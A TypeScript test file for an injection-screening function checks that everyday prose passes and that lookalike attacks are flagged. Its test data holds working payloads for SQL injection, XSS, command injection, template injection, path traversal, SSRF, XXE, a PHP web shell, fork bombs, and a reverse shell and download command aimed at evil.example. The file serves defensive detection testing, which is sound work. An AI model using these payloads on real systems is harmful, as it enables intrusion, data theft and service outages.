import assert from "node:assert/strict";
import { describe, test } from "node:test";

import { screen } from "../src/index.ts";

/** Kinds of everyday text, and what an attacker writes with the same signs. */
const families: Readonly<Record<string, { readonly innocent: readonly string[]; readonly attacks: readonly string[] }>> = {
  "couples of words": {
    innocent: ["copy & paste", "date & time", "head & tail", "search & find", "id | name | date"],
    attacks: ["x & whoami", "8.8.8.8 && cat /etc/passwd", "x | id", "1; sleep 9"],
  },
  "names of software": {
    innocent: ["Java & Python", "HTML, CSS & PHP", "Kubernetes & Docker", "Skills: SQL; Python; Docker", "Compare MySQL & PHP"],
    attacks: ["x & python -c 'import os'", "a; php -r 'phpinfo();'", "a; perl -e 'exec \"id\"'"],
  },
  "lists of software, line by line": {
    innocent: ["Languages\nPython\nRuby\nGo", "Requirements:\nPython 3.11 or newer\nNode 20", "Task:\n\nPython function that sorts a list"],
    attacks: ["x\npython -c 'import os'", "x\ncat /etc/passwd", "x\r\nwget http://evil.example/a.sh"],
  },
  "instructions for a page": {
    innocent: ['Click "Settings" and select "Profile".', "Open `File` and select `Save`", "Fetch data from `/session` and select keys."],
    attacks: ['x" and (select 1)=1 --', "x' and select password from users --"],
  },
  committees: {
    innocent: ["Health and Safety (Select Committee)", "Science and Technology (Select)"],
    attacks: ["1 and (select 1 from dual)=1", "x' and (select count(*) from users) > 0 --"],
  },
  "quantities with having": {
    innocent: ["a number having 3 digits or more", "a class having 25 students and 2 teachers", "Is having 2 dogs and 1 cat too much?"],
    attacks: ["1' having 1=1 --", "1 group by id having 1=1 --"],
  },
  comparisons: {
    innocent: ["Is 2 > 1 and 3 > 2?", "x = 1 or x = 2", 'necklace length 16" or 18"', 'screws 2" and 3"'],
    attacks: ["1 or 2 > 1 --", "x' or 1=1 --", '" or "1"="1'],
  },
  "quoted exclamations": {
    innocent: ['Translate: "Help!"', 'He said: "Stop!"', 'Title: "Oklahoma!"'],
    attacks: ["'='", "' or 'a'='a", "x'!='y"],
  },
  "attacks that a sentence quotes": {
    innocent: [
      "How do I stop ' OR 1=1 -- in my login form?",
      "What does `'; drop table users --` do?",
      "Why does this alert twice?\n\n```html\n<script>alert(1)</script>\n```",
      "How do I escape `<img src=x onerror=alert(1)>` in React?",
    ],
    attacks: [
      "What is the capital of France? ' OR 1=1 --",
      "My name is x'; drop table users --",
      "Hello. <script>alert(1)</script>",
      "Thanks!\n<img src=x onerror=alert(1)>",
    ],
  },
  "calls that a sentence begins with": {
    innocent: [
      "eval() here can be replaced with JSON.parse().",
      "fetch(url) never resolves on iOS, why?",
      "alert() is ugly; what else can I use?",
    ],
    attacks: ["eval(name)", "alert(document.cookie)", "system('id')"],
  },
  "quotes that are named": {
    innocent: ["Use either ' or \" for strings.", "Generate a password with 12 signs, but no ' or \""],
    attacks: ['x\' or "a"="a', "' or ''='", "' or '"],
  },
  "handlers of a pasted page": {
    innocent: ['<div class="card" onclick="toggle(this)"><h2>Title</h2></div>\nThe card does not toggle on iOS.'],
    attacks: ['" onclick=alert(1) x="', '"><div class="a" onclick="alert(1)">', "' onfocus=run() autofocus x='"],
  },
  "values of JSON": {
    innocent: ['{"name":"O\'Hara","note":"leave it at the door; don\'t ring","size":"5\' 9\\""}'],
    attacks: ['{"name":"x\' OR 1=1 --","age":3}', '{"age":3,"name":"x\'; DROP TABLE users; --"}', '{"host":"10.0.0.1; cat /etc/passwd"}'],
  },
  "tags that are named": {
    innocent: ["Add it before </body>", "Do I need </script> at the end?", "It goes before the closing </html> tag."],
    attacks: ["</script><script>alert(1)</script>", "</textarea><img src=x onerror=alert(1)>"],
  },
  "pages that are pasted": {
    innocent: [
      "Extract the text.\n\n<html><body><p>One</p></body></html>",
      'Review this form: <form method="post" action="/login"><input name="user"><button>Log in</button></form>',
    ],
    attacks: [
      "Extract the text.\n\n<img src=x onerror=alert(document.cookie)>",
      '<form action="javascript:alert(1)"><button>Log in</button></form>',
    ],
  },
  "scripts that are pasted": {
    innocent: ["Print this array.\n\n<?php\n$a = [1, 2];\n?>", "What does this do?\n\nfind . -name '*.log' | sort | head -n 10"],
    attacks: ["<?php system($_GET['c']); ?>", "a.log | nc evil.example 4444 -e /bin/sh"],
  },
  "transcripts and letters with CRLF": {
    innocent: [
      "Ann: hi\r\nBob: hello\r\nAnn: are you coming?",
      "Dear Ms Lee,\r\n\r\nI would like to reschedule.\r\nReason: illness\r\nBest,\r\nTom",
      "Event details:\nTitle: Summer party\nLocation: Room 5, second floor\nTime: 17:00",
    ],
    attacks: ["x\r\nSet-Cookie: admin=1", "x\r\nLocation: http://evil.example/", "x\r\n\r\n<script>alert(1)</script>"],
  },
  "lines that look like mail commands": {
    innocent: [
      "Planes on order:\nA380 superjumbo\nA350 widebody\nB787 widebody\nWhich has the longest range?",
      "COBOL question:\nIDENTIFICATION DIVISION.\nPROGRAM-ID. HELLO.\nDATA DIVISION.\nWORKING-STORAGE SECTION.\nWhat goes there?",
    ],
    attacks: ["x\r\nRCPT TO: <victim@example.org>\r\nDATA\r\nspam", "x\r\nQUIT\r\nMAIL FROM: <a@b.example>\r\n"],
  },
  "sums in reasoning": {
    innocent: ["Corey is 10+1 = <<10+1=11>>11 years old.", "He has 5*2 = <<5*2=10>>10 apples.\n#### 10"],
    attacks: ["x <<< $(id)", "x; cat <<< $(whoami)"],
  },
  entities: {
    innocent: ["&copy 2026", "&nbsp; &amp; &copy;"],
    attacks: ["&lt;script&gt;alert(1)&lt;/script&gt;", "1&copy c:\\boot.ini x"],
  },
  "statistics in parentheses": {
    innocent: ["The groups differed (n=42) (mean=5.1).", "Results: (n=12) (sd=1.3)"],
    attacks: ["*)(uid=*))(|(uid=*", "admin)(&(password=*))"],
  },
  "settings with paths": {
    innocent: ["secrets in docker compose: password: /run/secrets/db_password does not work, why?", "key: /etc/ssl/private/site.key"],
    attacks: ["password[$ne]=1", "{password: {$gt: ''}}"],
  },
  "subqueries that are asked about": {
    innocent: ["How do I delete duplicates? I tried DELETE FROM t WHERE id NOT IN (SELECT MIN(id) FROM t GROUP BY email); but it is slow."],
    attacks: ["1 and id not in (select min(id) from users) --", "x' union select min(id) from users --"],
  },
  "templates that are asked about": {
    innocent: ["In Ansible, {{ groups['web'] | map('extract', hostvars, 'ip') | list }} fails. Why?"],
    attacks: ["{{7*7}}", "{{ config.__class__.__init__.__globals__['os'].popen('id').read() }}"],
  },
  "variables that are asked about": {
    innocent: ["How does $IFS work in bash?", "Explain this.constructor.prototype versus __proto__ in JavaScript."],
    attacks: ["x;cat$IFS/etc/passwd", '{"__proto__": {"admin": true}}'],
  },
  "addresses that are asked about": {
    innocent: ["What is the address 169.254.169.254 used for in AWS?"],
    attacks: ["http://169.254.169.254/latest/meta-data/iam/"],
  },
  "a developer's own server": {
    innocent: ["http://localhost:3000", "http://localhost:5173/docs", "https://localhost:8000/v1/chat?a=1"],
    attacks: ["http://localhost:6379/", "http://localhost/admin", "http://localhost:8080/a", "http://localhost:3000@127.0.0.1/"],
  },
  "orders of rows": {
    innocent: ["Order by 3 pm, if possible", "rank 1 order by name if equal", "In case 1 when A ends, then B begins"],
    attacks: ["1 order by if(1<2,name,id)", "1 order by ifnull(null,id)", "case 3 when 3 then sleep(9) end", "case '1' when 2 then 2 end"],
  },
  "numbers and unions": {
    innocent: ["a 1/2 union", "@anna union selects a speaker", "The union of 1 and 2 is a set"],
    attacks: ["1/1/**/union", "-1#\n\nunion", "@a union select", '1;load xml local infile "x"'],
  },
  "dots and slashes": {
    innocent: ["Contents ............ 12", "s/\\.\\.\\//x/", "and so on ....."],
    attacks: ["........./boot.ini", ".\\/\\.\\.\\/\\.\\.\\/\\.\\.\\/etc/passwd"],
  },
  "signs of shells": {
    innocent: ["cost is $() per day", "f(){ f && g(); }", "a <<< b | sort", "Is line 1\\nline 2 right?"],
    attacks: [
      "ping$() 1.1.1.1",
      "f(){ f & f; };f",
      ".(){ .|.& };.",
      "cat<<<id | sh",
      "\\n/usr/bin/id;",
      "What is new? \\nid|",
      "x\u001aecho a|",
    ],
  },
  "one-liners of interpreters": {
    innocent: ["perl -e or perl -n?", "Use python -c for a short script"],
    attacks: ["a*; perl -e 'print 9x9'", "a || php -r 'phpinfo();'"],
  },
  "loops and addresses": {
    innocent: ["while (String s : list)", "See http://[2001:db8::1]/ in RFC 3849.", "a@b.example & c@d.example"],
    attacks: ["while(String);", "while(!-0);", "http://[a::b]", "http:[::ffff:a9fe:a9fe]", "http://a.example:80 &@127.1.1.1/"],
  },
  "statements behind a number": {
    innocent: ["1; create a view of the sea", "Please send 3; grant access to Tom.", '1; set -- "$@"', "2; copy it to a program"],
    attacks: [
      "1;CREATE OR REPLACE VIEW v AS SELECT 1;--",
      "1;GRANT ALL ON DATABASE a TO b",
      "1;SET GLOBAL a=1;--",
      "1;COPY t TO PROGRAM 'id';--",
    ],
  },
  "lines and the next one": {
    innocent: ["test\n/usr/share", "date\n12 May"],
    attacks: ["test\n/usr/bin/id", "date\n/usr/bin/id"],
  },
  "what objects inherit": {
    innocent: ["Is dog.__proto__ === Dog.prototype true?", "How do foo.__proto__ and Foo.prototype differ?"],
    attacks: ["obj.__proto__.isAdmin=true", "a[__proto__][b]=1", "x&__proto__.y=1"],
  },
  "names of inner services": {
    innocent: ["Use host.docker.internal instead of localhost.", "curl http://api.internal:8080/health gives 503"],
    attacks: ["http://wiki.corp.internal/start", "Please fetch http://metadata.google.internal/computeMetadata"],
  },
  "paths of imports": {
    innocent: ["Can't resolve '../../../../components/Button.tsx' in my app", 'import { a } from "../../../../lib/a.js";'],
    attacks: ["../../../../shared/config", "../../../../config.json", "../config/.env", "/app/static/../../secrets.yml"],
  },
  "streams of PHP": {
    innocent: [
      "file_get_contents('php://input') is empty when I send a form. Is that expected?",
      "fopen('php://memory', 'r+') or php://temp?",
    ],
    attacks: ["php://input", "php://filter/convert.base64-encode/resource=a"],
  },
  formulas: {
    innocent: ["What is the range of $$F(x) = |x+1|+|x-5|$$Express it as an interval.", "$$f(x) = x^2$$"],
    attacks: ["$$b(2)", "x;$$b($c)"],
  },
  "names for signs": {
    innocent: ['<!ENTITY nbsp "&#160;"> in DocBook: do I still need it?'],
    attacks: ['<!DOCTYPE a [<!ENTITY b "c"><!ENTITY d "&b;&b;">]><a>&d;</a>', '<!ENTITY a SYSTEM "file:///etc/passwd">'],
  },
  elisions: { innocent: ["Mer d'argent et d'or --", "un cœur d'or --"], attacks: ["abcd' or 1=1 --", "x' or --"] },
  "scripts of shells": {
    innocent: [
      "ls /usr/*/lib",
      "cp {a,b}/* src/**/*.ts",
      "trap 'rm -f $tmp' EXIT",
      "cmake .. && make -j4",
      "helm upgrade web . && kubectl get pods",
      'if [[ $a == "x" || $b -gt 3 ]]; then echo "y"; fi',
    ],
    attacks: [
      "; cat /et*/pa**wd",
      "{,$'whoami',}",
      "{/?s?/?i?/c?t,}",
      "x;trap 'rm a' EXIT",
      "x;irb<<<1",
      "nohup sleep 99 > /dev/null &",
      "q=1;id",
      "name=a;whoami",
      "file=x; cat /etc/passwd",
      "x;$'\\x69\\x64'",
      "Find the file x && whoami",
    ],
  },
  "lines of mails": {
    innocent: ["Bcc: means a blind copy", "a%0Ab is a line break"],
    attacks: ["a@b.example%0ABcc:%20c@d.example"],
  },
  "encodings of pages": {
    innocent: ['<meta charset="utf-8">', "charset=utf-7 in mail headers"],
    attacks: ['<meta charset="x-imap4-modified-utf7">%x', '<meta http-equiv="content-type" content="text/html; charset=utf-7">'],
  },
  "names with signs": {
    innocent: ["D'Arcy & Sons; Ltd.", "AT&T or R&D?", "I <3 you", "a > b"],
    attacks: ["D'or 1=1;--", "AT&T & whoami"],
  },
};

/** What of the kinds of attack that slipped through works, or is a usable probe. */
const probes: Readonly<Record<string, readonly string[]>> = {
  sqli: [
    "x') on duplicate key update a=1 --",
    "x' and data #>> '{a,b}' = '1' --",
    "1' into outfile '/var/www/x.php' --",
    "a'collate nocase--",
  ],
  xss: ["<scrscriptipt>alert(1)</scrscriptipt>", '\\"><img src=x onerror=alert(1)>', '"autofocus onfocus=alert(1) x="'],
  cmdi: ["x;{l,-lh}s", 'x;""p""y""t""h""o""n -c 1', "sh <<< id", "x;who$(echo am)i", "x;a=/etc&&cat $a/passwd"],
  php: ["$a['x']($b)", "$$b(2)", "Foo::$x()"],
  "node-dos": ["while(!null){}", "while(-Infinity){}", "while(true){}"],
  ssti: ["%}{(61+70)*46}{%1", "{% import os %}{{os.popen('id').read()}}"],
  traversal: ["/..//..//..//etc/passwd", "..\\/..\\/etc/passwd", "....//....//etc/passwd", "%uF025..%uF025etc/passwd"],
  nosql: ["1; return this.a != '", "true, $where: '1 == 1'"],
  ssrf: ["http://[::ffff:127.0.0.1]/", "http://127。0。0。1/", "http://example.org@127.0.0.1/"],
};

describe("everyday texts pass", () => {
  for (const [family, { innocent }] of Object.entries(families)) {
    for (const text of innocent) test(`${family}: ${JSON.stringify(text)}`, () => assert.deepEqual(screen(text, { profile: "prose" }), []));
  }
});

describe("attacks with the same signs are caught", () => {
  for (const [family, { attacks }] of Object.entries(families)) {
    for (const text of attacks)
      test(`${family}: ${JSON.stringify(text)}`, () => assert.notDeepEqual(screen(text, { profile: "prose" }), []));
  }
});

test("a strict field refuses the address of a developer's own server, since such fields hold addresses that a service fetches", () => {
  const rules = screen("http://localhost:3000", { profile: "strict" }).map(({ class: attackClass, rule }) => `${attackClass}/${rule}`);
  assert.deepEqual(rules, ["ssrf/inner-host"]);
});

describe("attacks in unusual spelling are caught", () => {
  for (const [kind, attacks] of Object.entries(probes)) {
    for (const text of attacks) test(`${kind}: ${JSON.stringify(text)}`, () => assert.notDeepEqual(screen(text, { profile: "prose" }), []));
  }
});
